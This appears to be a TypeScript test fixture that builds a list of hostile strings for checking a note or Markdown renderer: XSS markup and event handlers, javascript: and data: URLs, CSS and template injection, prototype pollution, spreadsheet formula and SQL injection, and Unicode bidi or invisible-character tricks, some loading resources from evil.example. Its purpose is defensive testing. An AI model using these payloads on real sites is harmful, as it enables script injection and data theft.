/**
 * Words that try to be something else: script, markup, addresses, styles, templates, marks of Markdown, tricks with
 * letters. Each on one line, each its own; `RUN` is code that a test would see run. They are combined from few parts, so
 * that each trick stands in each surrounding that a careless program might put it in.
 */

const run = 'globalThis.broken=1';

/** Elements and attributes that run code or fetch something by themselves. */
const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<sCrIpT/x>${run}</ScRiPt\t>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://evil.example/i.png">`,
  `<img/src/onerror=${run}>`,
  `<image href=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<dialog open onclose=${run}>x</dialog>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button popovertarget=x onclick=${run}>x</button>`,
  `<div popover id=x onbeforetoggle=${run}>x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `<a href=# style="position:fixed;inset:0">x</a>`,
  `<area href="javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=dns-prefetch href="//words-of-a-note.evil.example">`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea></textarea><script>${run}</script>`,
  `<title></title><script>${run}</script>`,
  `<xmp><script>${run}</script></xmp>`,
  `<plaintext>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<x-element is=script onclick=${run} tabindex=0 autofocus onfocus=${run}>`,
  `<p id=lectern name=lectern>`,
  `<form id=document><input name=body></form>`,
  `<webview src="https://evil.example/"></webview>`,
];

/** Ways out of where the words stand: attributes, texts, code, styles. */
const breakouts: readonly string[] = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '</p>',
  '</title>',
  '</script>',
  '</style>',
  ']]>',
  '*/',
  '}',
  '\\"',
  '&quot;>',
  '&#34;>',
];

/** Addresses that are code. */
const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java&Tab;script:${run}`,
  `java&#x0A;script:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`.slice(1),
  `javascript://%0a${run}`,
  `data:text/html;base64,PHNjcmlwdD5icm9rZW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `vbscript:${run}`,
  `blob:null/0`,
  `file:///etc/passwd`,
  `lectern://app/index.html?<script>`,
  `//evil.example/x`,
  `https://evil.example/"onmouseover="${run}`,
];

/** The same in the marks of Markdown. */
const markdown: readonly string[] = addresses.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}> "t")`,
  `![x](${address})`,
  `<${address}>`,
  `[x]: ${address}`,
]);

const markdownTricks: readonly string[] = [
  `[x](javascript:${run} "title\\" onmouseover=${run}")`,
  `[<img src=x onerror=${run}>](https://example.org)`,
  `[x](https://example.org/<script>${run}</script>)`,
  '```<script>' + run + '</script>```',
  '`<img src=x onerror=' + run + '>`',
  `**<script>${run}</script>**`,
  `_<img src=x onerror=${run}>_`,
  `# <script>${run}</script>`,
  `> <script>${run}</script>`,
  `- <script>${run}</script>`,
  `1. [x](javascript:${run})`,
  `\\<script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `<https://example.org onclick=${run}>`,
  `[[x](javascript:${run})](javascript:${run})`,
];

const css: readonly string[] = [
  `expression(${run})`,
  `url(javascript:${run})`,
  `}*{background:url(https://evil.example/x)}`,
  `";}@import "https://evil.example/x.css";{`,
  `\\"; } @page { @top-left { content: url(https://evil.example/x) } } a { b: "`,
  `\\00003c/style>`,
  `-moz-binding:url(https://evil.example/x#y)`,
  `behavior:url(x)`,
  `counter(page) "</style><script>${run}</script>`,
  `attr(onclick)`,
];

const templates: readonly string[] = [
  `{{constructor.constructor('${run}')()}}`,
  `{{{<script>${run}</script>}}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{%raw%}<script>${run}</script>`,
  `{{#lambda}}${run}{{/lambda}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `{"__proto__":{"broken":1}}`,
  `{count, plural, one {x} other {y}}`,
  `{broken}`,
  `<b>{broken}</b>`,
  `'{'x'}'`,
  `%s%n%x %00`,
  `=HYPERLINK("https://evil.example/")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `$&$1$\`$'`,
  `'; DROP TABLE note; --`,
  `" OR 1=1 --`,
];

/** Letters that look like others, turn the line round or are not seen. */
const letters: readonly string[] = [
  `\u202e<script>${run}</script>\u202c`,
  `\u2066\u2067\u202d${run}`,
  `\u200b<\u200bscript\u200b>${run}`,
  `\ufeff<img src=x onerror=${run}>`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u2039script\u203a${run}`,
  `<\u0131mg src=x onerror=${run}>`,
  `<\u017fcript>${run}</\u017fcript>`,
  `\u0338<script\u0338>${run}`,
  `\u{e0001}\u{e0073}\u{e0063}<svg onload=${run}>`,
  `\u05d0<img src=x onerror=${run}>\u05d1`,
  `\u0627\u0644<svg onload=${run}>`,
  `\ud800<script>${run}</script>`.slice(1),
  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}<svg onload=${run}>`,
  `Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334<svg onload=${run}>`,
  `\u2028${run}\u2029`.trim(),
  `\u00ad<scr\u00adipt>${run}`,
  `\u3000<script\u3000>${run}`,
];

/** All of them, each once, in one order; none begins or ends with white space. */
export const hostileWords: readonly string[] = [
  ...new Set(
    [
      ...markup,
      ...addresses,
      ...markdown,
      ...markdownTricks,
      ...css,
      ...templates,
      ...letters,
      ...breakouts.flatMap((out) => [
        `${out}<img src=x onerror=${run}>`,
        `${out} autofocus onfocus=${run} x=`,
      ]),
      ...breakouts.flatMap((out) => [`${out}<script>${run}</script>`, `${out};${run};//`]),
    ].map((words) => words.replaceAll(/\s+/gu, ' ').trim()),
  ),
];
